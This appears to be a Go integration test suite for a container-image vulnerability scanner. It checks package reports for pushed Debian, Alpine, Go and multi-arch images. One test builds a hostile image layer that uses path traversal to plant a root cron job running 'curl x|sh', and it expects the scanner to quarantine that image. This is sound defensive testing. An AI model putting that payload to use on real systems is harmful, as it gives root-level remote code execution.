package customs_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/rs/zerolog"

	"github.com/customs-scan/customs/pkg/report"
	"github.com/customs-scan/customs/pkg/scan/scantest"
	"github.com/customs-scan/customs/services/customs"
)

// testConfig is `customs up` on free loopback ports with an embedded registry.
func testConfig(t *testing.T) customs.UpConfig {
	cfg := customs.DefaultUpConfig()
	cfg.DataDir = t.TempDir()
	for _, a := range []*string{&cfg.IngestAddr, &cfg.ResultsAddr, &cfg.ScannerAddr, &cfg.NATSAddr, &cfg.S3Addr, &cfg.HarborAddr, &cfg.NotifierAddr} {
		*a = "127.0.0.1:0"
	}
	cfg.RegistryAddr = "127.0.0.1:0"
	cfg.AckWait = 5 * time.Second
	cfg.Log = zerolog.New(zerolog.NewTestWriter(t)).Level(zerolog.WarnLevel)
	return cfg
}

func startStack(t *testing.T, cfg customs.UpConfig) *customs.Stack {
	t.Helper()
	st, err := customs.Start(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := st.Stop(); err != nil {
			t.Errorf("stop: %v", err)
		}
	})
	return st
}

func withPlatform(t *testing.T, img v1.Image, arch, variant string) v1.Image {
	t.Helper()
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture, cf.Variant = "linux", arch, variant
	img, err = mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func push(t *testing.T, st *customs.Stack, repoTag string, img v1.Image) string {
	t.Helper()
	ref, err := name.ParseReference(st.RegistryAddr+"/"+repoTag, name.Insecure)
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.Write(ref, img); err != nil {
		t.Fatalf("push %s: %v", repoTag, err)
	}
	d, err := img.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return d.String()
}

func pushIndex(t *testing.T, st *customs.Stack, repoTag string, idx v1.ImageIndex) string {
	t.Helper()
	ref, err := name.ParseReference(st.RegistryAddr+"/"+repoTag, name.Insecure)
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.WriteIndex(ref, idx); err != nil {
		t.Fatalf("push %s: %v", repoTag, err)
	}
	d, err := idx.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return d.String()
}

// waitReport polls the results API the way a user would.
func waitReport(t *testing.T, resultsURL, digest string) *report.Report {
	t.Helper()
	deadline := time.Now().Add(90 * time.Second)
	for {
		resp, err := http.Get(resultsURL + "/v1/reports/" + digest)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			var r report.Report
			if err := json.Unmarshal(body, &r); err != nil {
				t.Fatalf("report %s: %v", digest, err)
			}
			return &r
		}
		if resp.StatusCode != http.StatusNotFound {
			t.Fatalf("GET report %s: %d %s", digest, resp.StatusCode, body)
		}
		if time.Now().After(deadline) {
			t.Fatalf("no report for %s after 90s", digest)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func pkgMap(r *report.Report) map[string]report.Package {
	m := map[string]report.Package{}
	for _, p := range r.Packages {
		m[p.Name] = p
	}
	return m
}

func layerDigest(t *testing.T, l v1.Layer) string {
	t.Helper()
	d, err := l.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return d.String()
}

// Push real images to a real registry whose notifications reach ingest;
// read the reports back from the results API.
func TestPushToRegistryYieldsReports(t *testing.T) {
	st := startStack(t, testConfig(t))

	// Debian-like: base layer, then a layer that installs libssl3 by
	// rewriting the dpkg status file.
	base := scantest.Layer(t, scantest.DebianRootfs(t)...)
	upgrade := scantest.Layer(t, scantest.Reg(scantest.DpkgStatusPath, scantest.DebianStatus(t, "base-files", "bash", "libc6", "libssl3")))
	debian := scantest.Image(t, base, upgrade)
	debianDigest := push(t, st, "testbed/debian:latest", debian)

	alpine := withPlatform(t, scantest.Image(t, scantest.Layer(t, scantest.AlpineRootfs(t)...)), "arm64", "v8")
	alpineDigest := push(t, st, "testbed/alpine:3.19", alpine)

	goLayer := scantest.GoBinaryLayer(t)
	goapp := scantest.Image(t, base, goLayer)
	goDigest := push(t, st, "testbed/goapp:v1", goapp)

	// Its own image: a digest pushed to two repositories has one report,
	// whose artifact names the repository scanned last.
	amd64 := withPlatform(t, scantest.Image(t, base), "amd64", "")
	idx := mutate.AppendManifests(empty.Index,
		mutate.IndexAddendum{Add: amd64, Descriptor: v1.Descriptor{Platform: &v1.Platform{OS: "linux", Architecture: "amd64"}}},
		mutate.IndexAddendum{Add: alpine, Descriptor: v1.Descriptor{Platform: &v1.Platform{OS: "linux", Architecture: "arm64", Variant: "v8"}}},
	)
	idxDigest := pushIndex(t, st, "testbed/multiarch:latest", idx)

	t.Run("debian", func(t *testing.T) {
		r := waitReport(t, st.ResultsURL, debianDigest)
		if r.Status != report.StatusComplete || r.Verdict != report.VerdictPass {
			t.Fatalf("status %s verdict %s error %q", r.Status, r.Verdict, r.Error)
		}
		if r.Artifact.Registry != st.RegistryAddr || r.Artifact.Repository != "testbed/debian" ||
			r.Artifact.Digest != debianDigest || len(r.Artifact.Tags) != 1 || r.Artifact.Tags[0] != "latest" {
			t.Errorf("artifact = %+v", r.Artifact)
		}
		if r.OS.ID != "debian" || r.OS.Version != "12" {
			t.Errorf("os = %+v", r.OS)
		}
		if len(r.Layers) != 2 || r.Layers[0].Digest != layerDigest(t, base) || r.Layers[1].Digest != layerDigest(t, upgrade) ||
			!strings.HasPrefix(r.Layers[0].DiffID, "sha256:") || r.Layers[0].Size <= 0 {
			t.Errorf("layers = %+v", r.Layers)
		}
		pkgs := pkgMap(r)
		bash, ok := pkgs["bash"]
		if !ok || bash.Version != scantest.DebianVersion("bash") || bash.Ecosystem != "Debian:12" ||
			!strings.HasPrefix(bash.PURL, "pkg:deb/debian/bash@") || bash.Path != scantest.DpkgStatusPath {
			t.Errorf("bash = %+v", bash)
		}
		// Packages are attributed to the layer that added them.
		if bash.Layer != r.Layers[0].Digest {
			t.Errorf("bash attributed to %s, want the base layer %s", bash.Layer, r.Layers[0].Digest)
		}
		if ssl := pkgs["libssl3"]; ssl.Layer != r.Layers[1].Digest {
			t.Errorf("libssl3 attributed to %q, want the upgrade layer %s", ssl.Layer, r.Layers[1].Digest)
		}
		if len(r.Packages) != 4 {
			t.Errorf("%d packages, want 4: %+v", len(r.Packages), r.Packages)
		}
	})

	t.Run("alpine", func(t *testing.T) {
		r := waitReport(t, st.ResultsURL, alpineDigest)
		if r.OS.ID != "alpine" || r.Artifact.Platform != "linux/arm64/v8" {
			t.Errorf("os %+v platform %q", r.OS, r.Artifact.Platform)
		}
		for n, v := range scantest.AlpinePackages {
			p, ok := pkgMap(r)[n]
			if !ok || p.Version != v || !strings.HasPrefix(p.Ecosystem, "Alpine") || !strings.HasPrefix(p.PURL, "pkg:apk/alpine/") {
				t.Errorf("apk %s = %+v, want version %s", n, p, v)
			}
		}
	})

	t.Run("go binary", func(t *testing.T) {
		r := waitReport(t, st.ResultsURL, goDigest)
		var goPkgs []report.Package
		for _, p := range r.Packages {
			if p.Ecosystem == "Go" {
				goPkgs = append(goPkgs, p)
			}
		}
		if len(goPkgs) == 0 {
			t.Fatalf("no Go packages in %+v", r.Packages)
		}
		var stdlib bool
		for _, p := range goPkgs {
			if p.Path != "usr/local/bin/app" || p.Layer != layerDigest(t, goLayer) {
				t.Errorf("Go package %+v: want path usr/local/bin/app in layer %s", p, layerDigest(t, goLayer))
			}
			stdlib = stdlib || p.Name == "stdlib"
		}
		if !stdlib {
			t.Errorf("no stdlib package among %+v", goPkgs)
		}
	})

	t.Run("index", func(t *testing.T) {
		r := waitReport(t, st.ResultsURL, idxDigest)
		if len(r.Manifests) != 2 {
			t.Fatalf("manifests = %+v", r.Manifests)
		}
		platforms := map[string]string{}
		for _, m := range r.Manifests {
			platforms[m.Platform] = m.Digest
		}
		amd64Digest, _ := amd64.Digest()
		if platforms["linux/amd64"] != amd64Digest.String() || platforms["linux/arm64/v8"] != alpineDigest {
			t.Fatalf("platforms = %v", platforms)
		}
		child := waitReport(t, st.ResultsURL, amd64Digest.String())
		if child.Artifact.Platform != "linux/amd64" || child.OS.ID != "debian" || child.Artifact.Repository != "testbed/multiarch" {
			t.Errorf("amd64 child: platform %q os %+v repo %q", child.Artifact.Platform, child.OS, child.Artifact.Repository)
		}
		if r.Artifact.Tags[0] != "latest" || !strings.Contains(r.Artifact.MediaType, "index") {
			t.Errorf("index artifact = %+v", r.Artifact)
		}
	})

	t.Run("listing", func(t *testing.T) {
		resp, err := http.Get(st.ResultsURL + "/v1/reports?repository=testbed/multiarch")
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var list struct {
			Reports []struct{ Digest string } `json:"reports"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&list); err != nil {
			t.Fatal(err)
		}
		got := map[string]bool{}
		for _, r := range list.Reports {
			got[r.Digest] = true
		}
		if !got[idxDigest] || !got[alpineDigest] || len(got) != 3 {
			t.Errorf("listing = %+v", list.Reports)
		}
	})
}

// A hostile image becomes a failed report with a reason, and the scanner
// keeps working.
func TestHostileImageFailsWithReason(t *testing.T) {
	st := startStack(t, testConfig(t))
	evil := scantest.Image(t, scantest.Layer(t, scantest.Reg("../../etc/cron.d/evil", "* * * * * root curl x|sh\n")))
	evilDigest := push(t, st, "testbed/evil:latest", evil)
	good := scantest.Image(t, scantest.Layer(t, scantest.AlpineRootfs(t)...))
	goodDigest := push(t, st, "testbed/good:latest", good)

	r := waitReport(t, st.ResultsURL, evilDigest)
	if r.Status != report.StatusFailed || r.Verdict != report.VerdictQuarantine ||
		!strings.Contains(r.Error, "../../etc/cron.d/evil") {
		t.Errorf("hostile image: status %q verdict %q error %q", r.Status, r.Verdict, r.Error)
	}
	if g := waitReport(t, st.ResultsURL, goodDigest); g.Status != report.StatusComplete {
		t.Errorf("next image after the hostile one: %+v", g)
	}
}

func TestReadyAndMetricsEndpoints(t *testing.T) {
	st := startStack(t, testConfig(t))
	for _, u := range []string{st.IngestURL + "/readyz", st.ResultsURL + "/readyz", st.IngestURL + "/metrics", st.ResultsURL + "/healthz"} {
		resp, err := http.Get(u)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Errorf("%s: %d", u, resp.StatusCode)
		}
	}
	// Webhooks need the token the embedded registry was given.
	resp, err := http.Post(st.IngestURL+"/v1/webhooks/distribution", "application/json", strings.NewReader(`{"events":[]}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("webhook without token: %d, want 401", resp.StatusCode)
	}
}
